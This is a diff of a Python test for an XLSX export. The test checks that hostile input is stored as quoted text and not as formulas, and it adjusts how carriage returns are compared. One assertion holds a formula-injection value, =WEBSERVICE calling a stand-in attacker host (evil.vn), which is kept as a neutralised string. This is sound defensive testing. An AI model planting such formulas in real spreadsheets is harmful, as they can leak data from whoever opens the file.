@@ -99,8 +99,9 @@ def test_xlsx_stores_hostile_text_as_quoted_text_and_no_formula(hostile: Form06)
     assert sheet is not None
     assert sheet["A2"].value == "'=WEBSERVICE(\"http://evil.vn\")" and sheet["A2"].data_type == "s"
     cells = [sheet.cell(row=r, column=c) for r in range(8, sheet.max_row + 1) for c in (1, 2)]
-    # XML reads a CR back as LF; the quote is before it all the same
-    assert {("'" + name).replace("\r", "\n") for name in HOSTILE} <= {c.value for c in cells}
+    # openpyxl's own XML reader gives a CR back as LF, lxml (when installed) as CR; the quote leads it all the same
+    read = {c.value.replace("\r", "\n") for c in cells if isinstance(c.value, str)}
+    assert {("'" + name).replace("\r", "\n") for name in HOSTILE} <= read
     assert all(c.data_type == "s" for c in cells if c.value is not None)
     total = next(r for r in range(8, sheet.max_row + 1) if sheet.cell(row=r, column=2).value == "Tổng cộng")
     assert [sheet.cell(row=total, column=c).value for c in range(3, 14)] == list(hostile.total.columns())
